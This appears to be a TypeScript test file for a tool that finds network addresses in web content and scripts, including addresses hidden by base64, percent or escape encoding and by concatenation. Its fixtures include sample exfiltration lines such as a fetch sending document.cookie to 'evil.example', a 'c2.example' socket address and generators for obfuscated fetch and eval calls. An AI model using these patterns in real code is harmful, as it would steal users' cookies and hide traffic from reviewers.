/** Tests the addresses that bodies contain: in markup, and in the constants of scripts, however they are written. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { inspect } from '../../../src/inspect.ts';
import { collectReferences, type References } from '../../../src/payload/references.ts';
import { addScriptContacts } from '../../../src/payload/script/script-contacts.ts';
import { withoutReading } from '../../../src/report/report-json-form.ts';
import { atOnce } from '../../../src/yield-to-event-loop.ts';
import { runs } from '../../support/seed.ts';
import { dataUrl } from '../report/reports.ts';

type Contacts = References['contacts'];

function contactsIn(script: string): Contacts {
  const collector = collectReferences();
  atOnce(addScriptContacts(collector, script));
  return atOnce(collector.result()).contacts;
}
const namedBy = (script: string) => contactsIn(script).first.map(({ address }) => address);

async function contactsOf(type: string, body: string): Promise<Contacts | undefined> {
  const { payload } = await inspect(`data:${type},${encodeURIComponent(body)}`);
  return payload?.references?.contacts;
}
const namedIn = async (type: string, body: string) =>
  (await contactsOf(type, body))?.first.map(({ address }) => address);

const quoted = (text: string) => JSON.stringify(text);
const codes = (text: string) => [...text].map((each) => each.charCodeAt(0));
const hex = (code: number, length: number) => code.toString(16).padStart(length, '0');

/** Functions that write a text as a literal, one for each kind of literal. */
const literals: ((text: string) => string)[] = [
  quoted,
  (text) => `'${text}'`,
  (text) => `\`${text}\``,
  (text) =>
    `'${codes(text)
      .map((code) => `\\x${hex(code, 2)}`)
      .join('')}'`,
  (text) =>
    `"${codes(text)
      .map((code) => `\\u${hex(code, 4)}`)
      .join('')}"`,
  (text) =>
    `\`${codes(text)
      .map((code) => `\\u{${hex(code, 6)}}`)
      .join('')}\``,
  (text) => `'${[...text].join('\\\n')}'`,
  (text) => `String.fromCharCode(${codes(text).map((code) => (code % 2 ? `0x${hex(code, 1)}` : code))})`,
];
const percent = (text: string) =>
  codes(text)
    .map((code) => `%${hex(code, 2)}`)
    .join('');

/** Generates an expression for a constant text, with decoders and concatenations nested at random. */
const expression = (text: string, depth: number): fc.Arbitrary<string> => {
  const literal = fc.constantFrom(...literals).map((make) => make(text));
  if (depth === 0) return literal;
  const inner = (part: string) => expression(part, depth - 1);
  const of = (call: string, encoded: string) => inner(encoded).map((each) => `${call}(${each})`);
  const two = fc.nat(text.length).chain((at) => fc.tuple(inner(text.slice(0, at)), inner(text.slice(at))));
  return fc.oneof(
    literal,
    of('atob', btoa(text)),
    of('window[\'at\'+"ob"]', btoa(text)),
    of('unescape', percent(text)),
    of('self.decodeURIComponent', percent(text)),
    inner(text).map((each) => `(0, ${each})`),
    two.map(([a, b]) => `(${a} + ${b})`),
    two.map(([a, b]) => `(${a}).concat(${b})`),
    two.map(([a, b]) => `\`\${${a}}\${ ${b} }\``),
  );
};
const addresses = [
  'https://evil.example/a?b=c',
  'http://10.0.0.1:81/',
  'wss://c2.example',
  'ftp://f.example/x',
  'mailto:a@evil.example',
  '//cdn.example/x.js',
];
/** Functions that return code around an expression. */
const places: ((text: string) => string)[] = [
  (text) => `fetch(${text})`,
  (text) => `var a = ${text}\nb()`,
  (text) => `if (a) /\`/.test(b); location = ${text} // "`,
  (text) => `x({ a: [1, ${text}] }, c ? 'd' : e)`,
  (text) => `a.src = c ? ${text} : ''`,
  (text) => `return ${text};`,
  (text) => `eval(${text} + document.cookie)`,
  (text) => `<!-- '\n${text}`,
  (text) => `//\r${text}`,
];

test('an address in any nesting of decoders and concatenations', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...addresses).chain((address) =>
        fc.record({
          address: fc.constant(address),
          written: expression(address, 3),
          place: fc.constantFrom(...places),
        }),
      ),
      ({ address, written, place }) => {
        const found = namedBy(place(written));
        // The address may be followed by an unknown text, which is shown as "…".
        assert.ok(found.includes(address) || found.includes(`${address}…`), `${found}: ${place(written)}`);
      },
    ),
    runs(500),
  );
});

test('nothing is invented: each address is in a literal, and parts that are unknown join nothing', () => {
  const parts = [
    "'https://'",
    "'evil.'",
    "'example/'",
    "'https://evil.example'",
    '"//c.example/"',
    '"1"',
    '``',
  ];
  const unknowns = 'a a.b f("g") a[0] /x/ -1 !`` atob(a) unescape(1,b)(2)'.split(' ');
  unknowns.push("typeof 'x'");
  const between = [...'+,;?:*.()[]{}', ' + ', '||', ' - ', '==', '\n'];
  const pieces = fc.array(fc.constantFrom(...parts, ...unknowns, ...between), { maxLength: 20 });
  fc.assert(
    fc.property(pieces, (given) => {
      const script = given.join(' ');
      // Literals are joined only if nothing but a plus sign, parentheses, or parts of a template separates them.
      const joined = script.replace(/['"`]\s*(?:[)\s]*\+[(\s]*)['"`]/g, '');
      for (const address of namedBy(script)) {
        const text = address.replace('…', '');
        assert.ok(joined.includes(text) || script.includes(text), `${address}: ${script}`);
      }
    }),
    runs(2000),
  );
  fc.assert(
    fc.property(fc.constantFrom(...unknowns), fc.constantFrom(...unknowns), (a, b) => {
      assert.deepEqual(
        namedBy(`'https://' + ${a} + '.example/' + ${b} + "ht" + ${a} + "tp://e.example"`),
        [],
      );
    }),
    runs(500),
  );
});

test('the rest of an address is unknown', () => {
  assert.deepEqual(namedBy(`fetch('https://evil.example/?c=' + document.cookie)`), [
    'https://evil.example/?c=',
  ]);
  assert.deepEqual(namedBy(`fetch('https://evil.' + a)`), ['https://evil.…']);
  assert.deepEqual(namedBy('fetch(`https://evil.$' + '{a}`)'), ['https://evil.…']);
  assert.deepEqual(namedBy(`(s ? 'https://ssl' : 'http://www') + '.a.example/x'`), [
    'https://ssl…',
    'http://www…',
  ]);
  assert.deepEqual(namedBy(`location.protocol + '//evil.example/'`), ['//evil.example/']);
});

test('what is no constant, and what is no address', () => {
  for (const script of [
    `'https://' + host + '/'`,
    `// 'https://a.example/'\n/* "https://a.example/" */`,
    '/https:\\/\\/a.example/',
    `a.atob('${btoa('https://a.example/')}')`,
    `atob('${btoa('https://a.example/')}' + a)`,
    `'//div[@id]' + "// a.b" + x('https:')`,
    `-'https:' + '//a.example/'.length`.replace('//a.example/', '//'),
    `'mailto:' + a + '?subject=b'`,
    `'data:,x' + 'blob:x'`,
  ])
    assert.deepEqual(namedBy(script), [], script);
});

test('the functions that decode an address', () => {
  assert.deepEqual(contactsIn(`unescape(atob('${btoa('%68ttps://a.example/')}'))`).first, [
    { address: 'https://a.example/', decodedBy: ['atob', 'unescape'] },
  ]);
  assert.deepEqual(contactsIn(`eval(atob('${btoa('fetch("https://a.example/")')}'))`).first, [
    { address: 'https://a.example/', decodedBy: ['atob'] },
  ]);
});

test('addresses within a constant', () => {
  assert.deepEqual(
    namedBy(
      `x = '<a href=\\'https://a.example/\\'> url(https://b.example/), https://c.example/, see mailto:d@e.example'`,
    ),
    ['https://a.example/', 'https://b.example/', 'https://c.example/', 'mailto:d@e.example'],
  );
});

test('no password is shown', () => {
  for (const script of [
    `'https://user:secret@h.example/' + a`,
    `'https://user:secret' + '@h.example/'`,
    `'https://user:secret' + a`,
    `atob('${btoa('//user:secret@h.example/')}')`,
  ]) {
    const found = namedBy(script);
    assert.equal(found.length, 1, script);
    assert.ok(!`${found}`.includes('secret'), `${found}`);
  }
});

test('forms, markup and the scripts in it', async () => {
  assert.deepEqual(
    await namedIn(
      'text/html',
      `<form action="//f.example/x"></form><form action="/own"></form><a href="mailto:a@b.example">m</a>
      <p style="background:url(https://s.example/)" onclick="location='https://h.example'">
      <template><img src="https://t.example/"></template>
      <script>a='https://i.example/'</script><script type=application/json>"https://block.example/"</script>
      <a href="javascript:location=%27https://j.example/%27">x</a>
      <iframe srcdoc="<script>x='https://d.example/'</script>"></iframe>`,
    ),
    [
      ...['//f.example/x', 'mailto:a@b.example', 'https://s.example/', 'https://t.example/'],
      ...['https://j.example/', 'https://h.example', 'https://i.example/', 'https://d.example/'],
    ],
  );
  assert.deepEqual(
    await namedIn(
      'image/svg+xml',
      `<svg xmlns="http://www.w3.org/2000/svg"><script>x="https://s.example/?a&amp;b"+<![CDATA["c"]]></script></svg>`,
    ),
    ['https://s.example/?a&bc'],
  );
  assert.deepEqual(await namedIn('text/css', 'a{b:url(//c.example/d)}'), ['//c.example/d']);
  // Text is run as a script only within a script element.
  assert.deepEqual(await namedIn('text/plain', `fetch('https://a.example/')`), ['https://a.example/']);
  assert.equal(await namedIn('text/plain', 'plain'), undefined);
});

test('each is listed once, up to a limit, and all are counted', async () => {
  const script = Array.from({ length: 250 }, (_, at) => `'https://h${at % 125}.example/'`).join();
  const contacts = await contactsOf('text/javascript', script);
  assert.deepEqual([contacts?.count, contacts?.first.length], [125, 100]);
});

test('the JSON of a Report has them', async () => {
  const { payload } = await inspect(`data:text/javascript,fetch('https://a.example/')`);
  assert.deepEqual(withoutReading(dataUrl({ payload: payload! })).contacts, {
    count: 1,
    first: [{ address: 'https://a.example/', decodedBy: [] }],
  });
  assert.ok(!('contacts' in withoutReading(dataUrl({ payload: null }))));
});
